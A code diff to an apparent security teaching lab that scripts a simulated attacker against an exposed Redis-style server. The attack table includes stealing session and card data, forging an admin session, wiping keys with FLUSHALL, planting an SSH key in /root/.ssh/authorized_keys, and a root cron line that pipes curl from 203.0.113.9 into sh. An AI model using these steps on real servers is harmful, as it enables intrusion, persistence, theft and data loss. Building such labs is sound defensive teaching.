@@ -6,7 +6,7 @@ where it is refused. Some lines are only said if the one before was refused (``i
 
 from __future__ import annotations
 
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from typing import NamedTuple
 
 from tutor.labs.security.settings import ATTACKER
@@ -17,12 +17,10 @@ LISTEN_US = 1_500_000
 FOUND = b"<found>"
 """Stands for all keys that were listed before."""
 
-GUESS = b"<guess>"
-"""Stands for the password that is tried next."""
+FOUND_OWN = b"<found app:>"
+"""Stands for those of the application."""
 
-SSH_KEY = (
-    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUpForDocumentationOnly0123456789abcdef mallory"
-)
+SSH_KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUpForDocumentationOnly0123456789abcdef mallory"
 CRON_LINE = b"* * * * * curl -s http://203.0.113.9/x | sh"
 
 
@@ -60,6 +58,7 @@ ATTACKS: Mapping[str, tuple[Line, ...]] = {
     "guess": (_line("PING"),),  # behind it AUTH after AUTH: see `tutor.labs.security.attacker`
     "steal": (_line("GET app:session:1"), _line("DUMP app:session:1"), _line("HGETALL app:cart:1")),
     "neighbour": (_line("GET billing:card:7"), _line("DUMP billing:card:7")),
+    "forge": (Line((b"SET", b"app:session:1", b"user=1;role=admin")),),
     "monitor": (_line("MONITOR", LISTEN_US, must=True),),
     "file": _file("/root/.ssh", "authorized_keys", SSH_KEY),
     "cron": _file("/var/spool/cron", "root", CRON_LINE),
@@ -73,9 +72,13 @@ ATTACKS: Mapping[str, tuple[Line, ...]] = {
         _line("FLUSHALL"),
         _line("SCAN 0 COUNT 100", refused=True),
         Line((b"DEL", FOUND)),
+        Line((b"DEL", FOUND_OWN), if_refused=True),
     ),
 }
 """Each attack in the order in which the attacker goes through them."""
+
+RIGHTS_ATTACKS = tuple(name for name in ATTACKS if name != "guess")
+"""What is left to try for who knows a password already."""
 
 PLANTED: Mapping[str, tuple[str, str, bytes]] = {
     "file": ("/root/.ssh", "authorized_keys", SSH_KEY),
@@ -100,3 +103,19 @@ DATA: Mapping[bytes, tuple[bytes, ...]] = {
 }  # fmt: skip
 """What is in the server, by key: the command that stores it. The first three groups are the
 application's, the rest belongs to another one."""
+
+
+def spoiled(read: Callable[[bytes], object]) -> set[bytes]:
+    """Which of `DATA` are gone or hold something else. ``read`` gives a key's value, None without
+    one."""
+    found: set[bytes] = set()
+    for key, command in DATA.items():
+        value = read(key)
+        if value is None or (command[0] == b"SET" and _text(value) != command[2]):
+            found.add(key)
+    return found
+
+
+def _text(value: object) -> bytes:
+    """What a string holds: digits are kept as a number."""
+    return b"%d" % value if isinstance(value, int) else bytes(value)  # type: ignore[call-overload]
